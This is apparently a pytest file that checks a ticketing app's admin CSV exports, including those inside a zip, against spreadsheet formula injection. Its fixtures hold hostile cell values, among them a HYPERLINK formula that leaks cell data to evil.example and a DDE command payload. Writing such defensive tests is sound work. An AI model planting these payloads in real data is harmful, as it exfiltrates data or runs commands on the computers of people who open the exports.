"""No CSV the product writes hands a spreadsheet a formula: a buyer, an organizer or a door phone
that names something `=HYPERLINK(…)` gets it back as text, in every CSV and every file of the
full export (issue 14 item 3)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from litestar import Litestar
from litestar.testing import AsyncTestClient
from sqlalchemy.ext.asyncio import AsyncSession

from api.admin.csvfile import cell, encode
from api.checkin.sync_service import from_millis
from api.db import AuditEntry, OrganizerMember, Refund, Scan, ScannerDevice
from api.passes import services as pass_services
from api.settings import Settings
from tests import factories
from tests.test_dashboard import sign_in

Client = AsyncTestClient[Litestar]

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&E2,"Refund")'
HOSTILE = {
    "organizer": "@SUM(1)",
    "event": "+cmd|' /C calc'!A0",
    "venue": "-2+3",
    "tier": "@SUM(1)",
    "buyer": HYPERLINK,
    "refund reason": "\t=1+1",
    "door": "\r=door",
    "device": "+device",
    "verdict": "=verdict",
    "audit target": "-audit",
}
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "  =1", "\uff1d1"])
def test_a_text_cell_that_a_spreadsheet_would_compute_is_written_as_text(text: str) -> None:
    assert cell(text) == "'" + text


def test_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    assert encode([[-500, 0, 12.5, "Floor", "", "ana@x.io", "2026-01-01T00:00:00+00:00"]]) == (
        b"-500,0,12.5,Floor,,ana@x.io,2026-01-01T00:00:00+00:00\r\n"
    )


async def _hostile_organizer(db: AsyncSession, settings: Settings) -> str:
    """An organizer whose every name, and a buyer's, starts a formula; returns the event id."""
    org = await factories.organizer(db, name=HOSTILE["organizer"])
    db.add(OrganizerMember(organizer_id=org.id, email="staff@reef.example", role="owner"))
    event = await factories.event(db, name=HOSTILE["event"], org=org)
    event.venue = HOSTILE["venue"]
    tier = await factories.tier(db, event=event, name=HOSTILE["tier"], price_minor=500)
    order = await factories.paid_order(db, event=event, tier=tier, quantity=1)
    order.buyer_name = HOSTILE["buyer"]
    [item] = await pass_services.issue_passes(
        db, order=order, tier_id=tier.id, count=1, secret_key=settings.secret_key
    )
    db.add(Refund(order_id=order.id, stripe_refund_id="re_1", amount_minor=500,
                  status="succeeded", reason=HOSTILE["refund reason"],
                  initiated_by="x"))  # fmt: skip
    db.add(AuditEntry(organizer_id=org.id, actor="someone", action="x.done",
                      target=HOSTILE["audit target"]))  # fmt: skip
    device = ScannerDevice(event_id=event.id, name=HOSTILE["device"], token_hash=b"d" * 32)
    db.add(device)
    await db.flush()
    db.add(Scan(event_id=event.id, device_id=device.id, seq=1, pass_key=item.pass_key,
                verdict=HOSTILE["verdict"], admitted=True, door=HOSTILE["door"], vector={},
                scanned_at=from_millis(1_900_000_000_000)))  # fmt: skip
    await db.commit()
    return str(event.id)


def _cells(body: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    return [value for row in rows for value in row]


def _assert_neutralised(name: str, body: bytes, expected: list[str]) -> None:
    cells = _cells(body)
    for value in cells:
        assert not value.startswith(DANGEROUS_START), f"{name}: {value!r} would run as a formula"
    for hostile in expected:
        assert "'" + hostile in cells, f"{name}: {hostile!r} is missing, or not as text"


async def test_names_that_start_a_formula_come_out_as_text_in_every_csv(
    client: Client, db: AsyncSession, settings: Settings
) -> None:
    event_id = await _hostile_organizer(db, settings)
    await sign_in(client, db, settings, "staff@reef.example")
    h = HOSTILE
    downloads = {
        "orders.csv": ("/admin/orders.csv", [h["buyer"], h["event"], h["tier"] + " x1"]),
        "refunds.csv": ("/admin/refunds.csv", [h["event"], h["refund reason"]]),
        "scans.csv": (f"/admin/events/{event_id}/scans.csv", [h["door"], h["verdict"]]),
    }
    for name, (path, expected) in downloads.items():
        response = await client.get(path)
        assert response.status_code == 200, name
        assert response.headers["content-type"] == "text/csv; charset=utf-8", name
        _assert_neutralised(name, response.content, expected)

    response = await client.get("/admin/export.zip")
    assert response.status_code == 200
    in_zip = {
        "orders.csv": [h["buyer"], h["event"]],
        "refunds.csv": [h["event"], h["refund reason"]],
        "passes.csv": [h["event"], h["tier"]],
        "scans.csv": [h["event"], h["door"], h["verdict"]],
        "events.csv": [h["organizer"], h["event"], h["venue"]],
        "tiers.csv": [h["event"], h["tier"]],
        "audit.csv": [h["organizer"], h["audit target"]],
    }
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert sorted(archive.namelist()) == sorted(in_zip)
        for name, expected in in_zip.items():
            _assert_neutralised(f"export.zip/{name}", archive.read(name), expected)
